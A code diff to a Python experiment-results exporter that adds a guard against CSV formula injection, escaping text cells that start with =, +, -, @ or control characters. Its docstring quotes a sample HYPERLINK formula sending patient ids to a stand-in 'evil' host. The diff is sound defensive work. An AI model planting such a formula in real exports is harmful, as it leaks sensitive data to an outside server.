@@ -5,9 +5,28 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 
 SHOWN_METRICS = ("accuracy", "f1", "auroc")
 FORMATS = ("table", "json", "csv")
+
+
+# A text cell that a spreadsheet would read as a formula (OWASP, "CSV injection"): one that
+# starts with one of these characters, unless it is a plain number such as -0.5 or +3.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+
+
+def csv_cell(value: object) -> str:
+    """A data-derived text cell for a CSV a researcher may open in Excel or LibreOffice: one
+    starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``
+    so that it reads as text, never as a formula (QA: a record id
+    ``=HYPERLINK("http://evil/?q="&A2,"open")`` sent the patient ids beside it to a server).
+    A plain number (``-1``, ``+0.5``) is left as it is: it is no formula."""
+    text = "" if value is None else str(value)
+    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
+        return "'" + text
+    return text
 
 
 def _fmt(v: float | None, digits: int = 4) -> str:
@@ -98,15 +117,17 @@ def to_csv(rows: list[dict]) -> str:
               "params", "error"]
     buf = io.StringIO()
     writer = csv.writer(buf, lineterminator="\n")
-    writer.writerow(header)
+    writer.writerow([csv_cell(h) for h in header])  # metric names come from the database
     for r in rows:
+        # text cells (names, a device, params, an error) through csv_cell; numbers as they are
         writer.writerow([
-            r["rank"], r["study"], r.get("dataset", ""), r["trial"], r["architecture"],
-            r["state"], r["metric"], _csv(r["score_mean"]), _csv(r["score_std"]),
+            r["rank"], csv_cell(r["study"]), csv_cell(r.get("dataset", "")), r["trial"],
+            csv_cell(r["architecture"]), csv_cell(r["state"]), csv_cell(r["metric"]),
+            _csv(r["score_mean"]), _csv(r["score_std"]),
             ";".join(f"{v:.6g}" for v in r["fold_scores"] or []),
             *[_csv((r["metrics"] or {}).get(m)) for m in metrics], f"{r['duration_s']:.3f}",
-            r.get("device") or "", json.dumps(r["params"], sort_keys=True),
-            (r.get("error") or "").split("\n")[0]])
+            csv_cell(r.get("device") or ""), csv_cell(json.dumps(r["params"], sort_keys=True)),
+            csv_cell((r.get("error") or "").split("\n")[0])])
     return buf.getvalue()
 
 
